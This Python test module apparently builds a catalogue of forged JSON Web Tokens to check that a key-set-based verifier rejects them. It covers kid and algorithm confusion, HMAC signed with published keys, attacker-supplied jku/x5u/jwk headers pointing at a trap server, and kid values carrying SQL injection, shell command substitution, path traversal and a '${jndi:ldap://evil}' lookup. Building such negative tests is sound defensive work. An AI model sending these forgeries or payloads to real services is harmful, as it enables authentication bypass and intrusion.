"""Forgeries against a service that takes its keys from a key set: they choose a key, or bring one along."""

from __future__ import annotations

import json
from collections.abc import Iterator

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

from integration.http.token_corpus import KEYS, Issuer, b64url, by_hmac, claims, dump
from simulators.key_server import Jwk

PUBLISHED = [algorithm for algorithm in KEYS if not algorithm.startswith("HS")]

_SHORT = rsa.generate_private_key(65_537, 1024)  # noqa: S505  # it must not be accepted
_SECRET = b"p" * 64


def published(algorithm: str, *, forged: bool = False) -> Jwk:
    """The public key of the issuer, or of a forger, named after its algorithm."""
    key = KEYS[algorithm][forged].public_key()
    public: Jwk = jwt.get_algorithm_by_name(algorithm).to_jwk(key, as_dict=True)
    return public | {"kid": algorithm, "alg": algorithm, "use": "sig"}


def key_set() -> list[Jwk]:
    """The issuer's keys, and others that must not be used for signatures; a forger can sign with all the others."""
    forgers = published("ES256", forged=True)
    short = jwt.get_algorithm_by_name("RS256").to_jwk(_SHORT.public_key(), as_dict=True)
    return [
        *(published(algorithm) for algorithm in PUBLISHED),
        forgers | {"kid": "enc", "use": "enc"},
        forgers | {"kid": "wrap", "key_ops": ["wrapKey"]},
        forgers | {"kid": "unknown", "kty": "AKP"},
        short | {"kid": "short", "alg": "RS256"},
        {"kty": "oct", "kid": "oct", "alg": "HS256", "k": b64url(_SECRET)},
    ]


def key_set_forgeries(issuer: Issuer, trap: str) -> Iterator[tuple[str, str]]:
    """Kinds of tokens, by name; `trap` is a server at which a forger publishes its own keys."""
    yield from _chosen(issuer)
    yield from _brought(issuer, trap)


def _chosen(issuer: Issuer) -> Iterator[tuple[str, str]]:
    own = issuer.algorithm
    yield "kid of the issuer, another's key", issuer.token({"kid": own}, forged=True)
    for other in PUBLISHED:
        if other != own:
            yield f"kid of {other}", issuer.token({"kid": other})
            yield f"kid of {other}, another's key", issuer.token({"kid": other}, forged=True)
            yield f"alg of {other}, kid of its own", issuer.token({"alg": other, "kid": own})
    for kid in ("enc", "wrap", "unknown"):
        yield f"signed by the key {kid}", Issuer("ES256").token({"kid": kid}, forged=True)
    short = jwt.get_algorithm_by_name("RS256").sign(_message("RS256", "short").encode(), _SHORT)
    yield "signed by the short key", f"{_message('RS256', 'short')}.{b64url(short)}"
    document = json.dumps({"keys": key_set()}).encode()
    secrets = {
        "the published secret": _SECRET,
        "the published secret, encoded": b64url(_SECRET).encode(),
        "the key set": document,
        "the key": json.dumps(published(own)).encode(),
        "the key without blanks": json.dumps(published(own), separators=(",", ":")).encode(),
        "the key's name": own.encode(),
        "nothing": b"",
    }
    for algorithm in ("HS256", "HS384", "HS512"):
        for name, secret in secrets.items():
            for kid in ("oct", own):
                yield f"{algorithm} with {name}, kid {kid}", by_hmac(algorithm, secret, kid=kid)
    names = (
        *(
            "",
            " ",
            own.lower(),
            f"{own} ",
            f" {own}",
            f"{own}\0",
            f"{own},enc",
            "0",
            "null",
            "undefined",
            "*",
            "%",
            "..",
            "/",
        ),
        *("../keys", f"./{own}", "/dev/null", "file:///dev/null", "C:\\nul", "\\\\evil\\share", "${jndi:ldap://evil}"),
        *(
            "' OR '1'='1",
            "1; DROP TABLE keys",
            "' UNION SELECT 'k' --",
            "|/bin/sh",
            "$(id)",
            "`id`",
            "\r\nX: y",
            "\u0000",
        ),
        *("\u202e", "\ud83d\ude00" * 500, "x" * 5000, json.dumps({"kid": own}), f'["{own}"]', "keys[0]", "__proto__"),
    )
    for kid in names:
        yield f"kid {kid[:30]!r} ({len(kid)})", issuer.token({"kid": kid})
        yield f"kid {kid[:30]!r} ({len(kid)}), another's key", issuer.token({"kid": kid}, forged=True)


def _message(algorithm: str, kid: str) -> str:
    return f"{b64url(dump({'alg': algorithm, 'typ': 'JWT', 'kid': kid}))}.{b64url(dump(claims()))}"


def _brought(issuer: Issuer, trap: str) -> Iterator[tuple[str, str]]:
    own, mine = issuer.algorithm, published(issuer.algorithm, forged=True)
    addresses = {
        "the trap": f"{trap}/keys",
        "the trap with a user": f"{trap.replace('//', '//id.example@')}/keys",
        "the trap with a fragment": f"{trap}/keys#https://id.example",
        "a list": [f"{trap}/keys"],
        "an object": {"url": f"{trap}/keys"},
        "no scheme": trap.removeprefix("http:") + "/keys",
        "upper case": f"{trap}/keys".upper(),
        "data": "data:application/json," + json.dumps({"keys": [mine]}),
        "empty": "",
        "null": None,
    }
    for parameter in ("jku", "x5u"):
        for name, address in addresses.items():
            for kid in (own, "forger"):
                yield f"{parameter} is {name}, kid {kid}", issuer.token({parameter: address, "kid": kid}, forged=True)
        yield f"{parameter} in a genuine token of an unknown key", issuer.token({parameter: f"{trap}/keys", "kid": "?"})
    for name, key in {"a key": mine, "a text": json.dumps(mine), "a list": [mine], "null": None, "empty": {}}.items():
        yield f"jwk is {name}", issuer.token({"jwk": key, "kid": own}, forged=True)
        yield f"x5c is {name}", issuer.token({"x5c": key, "kid": own}, forged=True)
    for parameter in ("jwks", "jwks_uri", "jwks_url", "keys", "url", "issuer", "iss", "x5t", "src", "key", "pem"):
        for what, value in (("address", f"{trap}/keys"), ("key", {"keys": [mine]})):
            yield f"{parameter} is an {what}", issuer.token({parameter: value, "kid": "forger"}, forged=True)
    yield "kid is the trap", issuer.token({"kid": f"{trap}/keys"}, forged=True)
    yield "the issuer is the trap", issuer.token({"kid": "forger"}, claims(iss=trap), forged=True)
    for claim in ("jwks_uri", "jku", "cnf", "sub_jwk"):
        payload = claims(**{claim: {"jwk": mine, "jku": f"{trap}/keys"}})
        yield f"claim {claim}", issuer.token({"kid": "forger"}, payload, forged=True)
